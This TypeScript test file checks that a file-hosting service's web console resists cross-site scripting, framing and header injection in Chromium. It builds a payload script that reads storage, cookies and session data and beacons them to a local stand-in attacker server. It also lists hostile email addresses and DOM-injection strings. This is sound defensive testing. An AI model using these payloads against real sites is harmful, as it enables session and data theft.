import { createHash, randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { isPageMediaType, isPdfMediaType, isShownMediaType } from '@lade/core/wire/media-type'
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest'
import { operatorOf, TOKEN_KEY } from '../faults/fleet/operator.ts'
import { describeScenario, pathOf, program } from '../faults/harness.ts'
import { PAYLOADS, type Payload } from './attack-payloads.ts'
import { type Chromium, type Page, startChromium } from './chromium.ts'
import { type ConsolePage, consolePage } from './console-page.ts'
import { freePort } from './free-port.ts'
import { type Lade, startLade } from './lade.ts'
import { openTempHome, type TempHome } from './temp-home.ts'

const EMAIL = 'victim@example.org'
const SECRET = 'kept by the console'
/** Within which whatever runs has run. */
const RUN_MS = 150
/** What no name may have: see `X-Filename`. */
const REFUSED_IN_NAMES = /[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069/\\]/u
/** And no label, and no reason. */
const REFUSED_IN_LABELS = /[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u
/** Addresses that are as hostile as an address may be. */
const EMAILS = [
  "x'onfocus=alert`1`'@example.org",
  '{{constructor}}@example.org',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a name that is a template elsewhere
  '${alert`1`}@example.org',
  '__proto__@example.org',
]

/** A file of a payload. */
interface Attack extends Payload {
  readonly cid: string
  /** As the file is called, where the text itself is refused. */
  readonly name: string
  readonly contentType: string
}

describeScenario(
  { id: 'console', name: 'attacks on the console in Chromium', needs: [program('chromium', 'chromium')] },
  () => {
    let home: TempHome
    let service: Lade
    let contentUrl: string
    let beacon: Server
    let beaconUrl: string
    /** What arrived at the host of the attacker. */
    let arrived: string[]
    let token: string
    let attacks: readonly Attack[]
    let chromium: Chromium
    let page: Page
    let console_: ConsolePage

    beforeAll(async () => {
      home = openTempHome('console-attacks')
      beacon = createServer((request, response) => {
        const url = request.url ?? ''
        if (url === '/frame') response.setHeader('Content-Type', 'text/html')
        else arrived.push(url)
        response.end(url === '/frame' ? `<iframe src="${service.url}"></iframe>` : '')
      })
      beacon.on('upgrade', ({ url }, socket) => {
        arrived.push(url ?? '')
        socket.destroy()
      })
      beacon.listen(0, '127.0.0.1')
      await once(beacon, 'listening')
      beaconUrl = `http://127.0.0.1:${(beacon.address() as AddressInfo).port}`
      const port = await freePort()
      // Another name of this machine, and so another site.
      contentUrl = `http://localhost:${port}`
      service = await startLade({
        ...TOKEN_KEY,
        LADE_PORT: String(port),
        LADE_CONTENT_URL: contentUrl,
        LADE_DATA_DIR: join(home.path, 'data'),
        LADE_MIN_FREE_MB: '0',
        LADE_LOG_LEVEL: 'warn',
        LADE_SIGNUPS_PER_HOUR: '10000',
      })
      token = await signUp(EMAIL)
      attacks = await Promise.all(PAYLOADS.map(uploadPayload))
    })
    afterAll(async () => {
      await service.stop()
      beacon.closeAllConnections()
      beacon.close()
      home.discard()
    })
    beforeEach(async () => {
      arrived = []
      chromium = await startChromium(pathOf('chromium') ?? '')
      page = await chromium.newPage()
      console_ = consolePage(page)
      await page.look({ width: 1440, height: 900, scheme: 'light' })
    })
    afterEach(() => chromium.close())

    const post = (path: string, json: object, headers: Record<string, string> = {}): Promise<Response> =>
      fetch(new URL(path, service.url), {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...headers },
        body: JSON.stringify(json),
      })
    const bearer = () => ({ authorization: `Bearer ${token}` })

    async function signUp(email: string): Promise<string> {
      const answer = await post('/api/auth/signup', { email, label: 'laptop' })
      expect(answer.status, await answer.clone().text()).toBe(200)
      return ((await answer.json()) as { token: string }).token
    }

    /** What a payload does once it runs: it takes what it can reach, says so in the log, and sends it away in every way. */
    function codeOf(id: string): string {
      return `(async () => {
      const tries = {
        storage: () => localStorage.getItem('secret'),
        database: async () => (await indexedDB.databases()).length > 0,
        cookie: () => document.cookie,
        session: async () => (await (await fetch('${service.url.origin}/api/session', { credentials: 'include' })).json()).session.email,
        files: async () => (await (await fetch('${service.url.origin}/api/files', { credentials: 'include' })).json()).count,
        parent: () => parent !== window ? parent.document.title : false,
        opener: () => opener ? opener.document.title : false
      };
      const taken = [];
      for (const name of Object.keys(tries)) try { if (await tries[name]()) taken.push(name) } catch {}
      console.log('ran ${id}: ' + taken.join());
      const ways = [
        () => fetch('${beaconUrl}/fetch-${id}', { mode: 'no-cors' }),
        () => { new Image().src = '${beaconUrl}/image-${id}' },
        () => navigator.sendBeacon('${beaconUrl}/beacon-${id}'),
        () => { new WebSocket('${beaconUrl.replace('http', 'ws')}/socket-${id}') },
        () => { const one = document.createElement('iframe'); one.src = '${beaconUrl}/iframe-${id}'; document.documentElement.append(one) }
      ];
      for (const way of ways) try { Promise.resolve(way()).catch(() => {}) } catch {}
    })()`.replaceAll(/\n\s*/g, ' ')
    }

    async function uploadFile(
      body: string,
      headers: Record<string, string>,
    ): Promise<{ cid: string; answer: Response }> {
      const bytes = Buffer.from(body)
      const cid = createHash('sha256').update(bytes).digest('hex')
      const path = new URL(`/api/upload?cid=${cid}`, service.url)
      const answer = await fetch(path, { method: 'POST', body: bytes, headers: { ...bearer(), ...headers } })
      return { cid, answer }
    }

    async function uploadPayload(payload: Payload): Promise<Attack> {
      const { id, text, type } = payload
      const script = await uploadFile(codeOf(id), { 'content-type': 'text/javascript' })
      const body = payload.body(codeOf(id), `/p/${script.cid}`)
      const refused = await uploadFile(body, { 'content-type': 'text/plain', 'x-filename': encodeURIComponent(text) })
      expect([id, refused.answer.status]).toEqual([id, REFUSED_IN_NAMES.test(text) ? 400 : 200])
      // The same bytes again, which takes over the type.
      const name = text.replaceAll(new RegExp(REFUSED_IN_NAMES, 'gu'), '\u2215')
      const parameter = /^[\x20-\x7e]*$/.test(text) ? `; x="${text.replaceAll(/["\\]/g, '\\$&')}"` : ''
      const contentType = `${type}${type.includes(';') ? '' : parameter}`
      const { cid, answer } = await uploadFile(body, {
        'content-type': contentType,
        'x-filename': encodeURIComponent(name),
      })
      expect(answer.status, await answer.text()).toBe(200)
      return { ...payload, cid, name, contentType }
    }

    async function signIn(as = token): Promise<void> {
      await page.open(service.url.href)
      const request = {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ token: as }),
      }
      const status = await page.evaluate(
        `fetch('/api/session', ${JSON.stringify(request)}).then(({ status }) => status)`,
      )
      expect(status).toBe(200)
      await page.evaluate(`localStorage.setItem('secret', '${SECRET}')`)
      await page.open('about:blank')
      await page.open(new URL('/#/files', service.url).href)
      await console_.sees('the files', 'document.querySelector(".filters")')
    }

    /** Nothing ran, nothing was sent, nothing was asked of the user, and nothing is complained about. */
    async function expectQuiet(where: string): Promise<void> {
      await sleep(RUN_MS)
      expect([where, page.dialogs()]).toEqual([where, []])
      expect([where, page.logged()]).toEqual([where, []])
      expect([where, page.complaints()]).toEqual([where, []])
      expect([where, arrived]).toEqual([where, []])
    }

    test('runs nothing of what files are called, say that they are, and have in them', async () => {
      await signIn()
      await console_.sees('all files', `document.querySelectorAll('.file-name').length >= 15`)
      await expectQuiet('the list of files')
      for (const { id, cid, name, contentType } of attacks) {
        await console_.goTo(`#/files/${cid}`)
        await console_.sees(id, `document.querySelector('dialog h2')?.textContent === ${JSON.stringify(name)}`)
        await console_.sees(id, `document.querySelector('dialog')?.innerText.includes(${JSON.stringify(contentType)})`)
        const isPreviewed = isShownMediaType(contentType) || isPdfMediaType(contentType)
        // No browser runs what is in an image, and one that is none is not shown.
        if (contentType.startsWith('image/') && isPreviewed) {
          await console_.sees(id, `document.querySelector('img.preview, .preview-none')`)
          await expectQuiet(id)
          continue
        }
        await console_.sees(id, `(document.querySelector('iframe.preview')?.src.length > 0) === ${isPreviewed}`)
        if (isPreviewed && !isPdfMediaType(contentType))
          expect(await page.evaluate(`document.querySelector('iframe.preview').getAttribute('sandbox')`)).toBe('')
        await expectQuiet(id)
      }
      await console_.goTo('#/files')
      await console_.sees('the list', '!document.querySelector("dialog")')
      const found = `[...document.querySelectorAll('.file-name a span:last-child')].map(({ textContent }) => textContent)`
      for (const { id, name } of attacks) {
        await console_.fill('input[type=search]', name)
        // Some are in each other.
        await console_.sees(id, `${found}.length < 12 && ${found}.includes(${JSON.stringify(name)})`)
      }
      for (const { id, text } of attacks) {
        await console_.fill('input[list]', text.replaceAll(/\p{Cc}/gu, ''))
        await page.press('Enter')
        await console_.sees(id, 'document.querySelector(".empty")')
      }
      await expectQuiet('the search')
      expect(await page.evaluate('document.title')).toBe('Files · Lade')
    })

    test('runs nothing of the labels of tokens, of addresses, and of the reasons of blocks', async () => {
      const operator = await operatorOf()
      const labels: string[] = []
      for (const { id, text } of PAYLOADS) {
        const answer = await post('/api/auth/signup', { email: EMAIL, label: text.slice(0, 100) }, bearer())
        const isRefused = REFUSED_IN_LABELS.test(text.slice(0, 100))
        expect([id, answer.status]).toEqual([id, isRefused ? 400 : 200])
        if (answer.status === 200) labels.push(text.slice(0, 100))
        const refused = await post('/api/auth/signup', { email: `${text}@example.org`, label: 'x' })
        expect([id, refused.status]).toEqual([id, id === 'prototype' ? 200 : 400])
      }
      await signIn()
      await console_.goTo('#/tokens')
      for (const label of labels.map((text) => text.trim().replaceAll(/\s+/g, ' ')))
        await console_.sees(
          label,
          `document.body.textContent.replaceAll(/\\s+/g, ' ').includes(${JSON.stringify(label)})`,
        )
      await expectQuiet('the tokens')
      await console_.goTo('#/usage')
      await console_.sees('the usage', 'document.querySelector("main h1")')
      await expectQuiet('the usage')

      for (const { id, text } of PAYLOADS) {
        const { cid } = await uploadFile(`blocked ${id}`, { 'content-type': 'text/plain' })
        const reason = text.replaceAll(new RegExp(REFUSED_IN_LABELS, 'gu'), ' ')
        await operator(service.url, 'POST', '/api/admin/blocks', { cid, reason })
        await console_.goTo(`#/files/${cid}`)
        const said = reason.trim().replaceAll(/\s+/g, ' ')
        await console_.sees(
          id,
          `document.querySelector('dialog .notice')?.textContent.replaceAll(/\\s+/g, ' ').includes(${JSON.stringify(said)})`,
        )
        await expectQuiet(id)
      }

      for (const email of EMAILS) {
        await signIn(await signUp(email))
        await console_.sees(email, `document.body.innerText.includes(${JSON.stringify(email)})`)
        await expectQuiet(email)
      }
    })

    test('runs nothing that is opened by its link beside the console', async () => {
      await signIn()
      for (const { id, cid, contentType } of attacks) {
        const { isDownload } = await page.open(new URL(`/p/${cid}`, service.url).href)
        expect([id, isDownload]).toEqual([id, !isShownMediaType(contentType)])
        await sleep(RUN_MS)
        expect([id, page.dialogs(), page.logged(), arrived]).toEqual([id, [], [], []])
      }
    })

    test('lets pages run on the origin of the content alone, where they reach nothing and nobody', async () => {
      await signIn()
      const ran = new Set<string>()
      for (const { id, cid, contentType } of attacks) {
        const { isDownload } = await page.open(`${contentUrl}/p/${cid}`)
        expect([id, isDownload]).toEqual([id, !isShownMediaType(contentType) && !isPageMediaType(contentType)])
        await sleep(RUN_MS)
        const logged = page.logged().filter((line) => line.startsWith('ran '))
        // What it took would stand behind the colon.
        expect(logged.filter((line) => line !== `ran ${id}: `)).toEqual([])
        if (logged.length > 0) ran.add(id)
        if (!isPageMediaType(contentType)) expect([id, logged]).toEqual([id, []])
        // The viewer of PDFs runs what is in them, apart from every origin.
        if (id === 'pdf') await expect.poll(() => page.dialogs()).toEqual(['1'])
        else expect([id, page.dialogs()]).toEqual([id, []])
        expect([id, arrived]).toEqual([id, []])
      }
      // Those that must be able to do harm, if nothing kept them from it.
      for (const id of ['script', 'script-src', 'xhtml', 'img-onerror', 'svg-script', 'xml-namespace', 'srcdoc'])
        expect(ran).toContain(id)
    })

    test('gives no header to whoever names a file with lines', async () => {
      const [{ cid } = { cid: '' }] = attacks
      for (const { id, text } of PAYLOADS) {
        const answer = await fetch(new URL(`/p/${cid}?filename=${encodeURIComponent(text)}`, service.url))
        expect([id, answer.status]).toEqual([id, REFUSED_IN_NAMES.test(text) ? 400 : 200])
        expect([...answer.headers.keys()]).not.toContain('x-injected')
        expect(answer.headers.getSetCookie()).toEqual([])
      }
    })

    test('is shown in no frame of another origin', async () => {
      await signIn()
      await page.open(`${beaconUrl}/frame`)
      await expect.poll(() => page.complaints().join()).toMatch(/frame-ancestors 'none'/)
      expect(await page.evaluate('document.querySelectorAll("iframe").length')).toBe(1)
    })

    test('refuses a script of its own page that is made of text', async () => {
      await signIn()
      const { cid } = await uploadFile(`${codeOf('own')} // ${randomBytes(4).toString('hex')}`, {
        'content-type': 'text/javascript',
      })
      for (const attack of [
        `new Worker('/p/${cid}')`,
        `Object.assign(document.createElement('script'), { src: '/p/${cid}' })`,
        `document.body.innerHTML = '<img src=x onerror=1>'`,
        `document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`,
        `new DOMParser().parseFromString('<b>x</b>', 'text/html')`,
        `document.createElement('iframe').srcdoc = 'x'`,
        `setTimeout('1')`,
        `eval('1')`,
      ])
        await expect(page.run(attack)).rejects.toThrow(/TrustedScript|TrustedHTML|Content Security Policy|unsafe-eval/)
      expect(page.logged()).toEqual([])
      expect(page.complaints().length).toBeGreaterThan(0)
      for (const complaint of page.complaints()) expect(complaint).toMatch(/Trusted|Content Security Policy/)
    })
  },
)
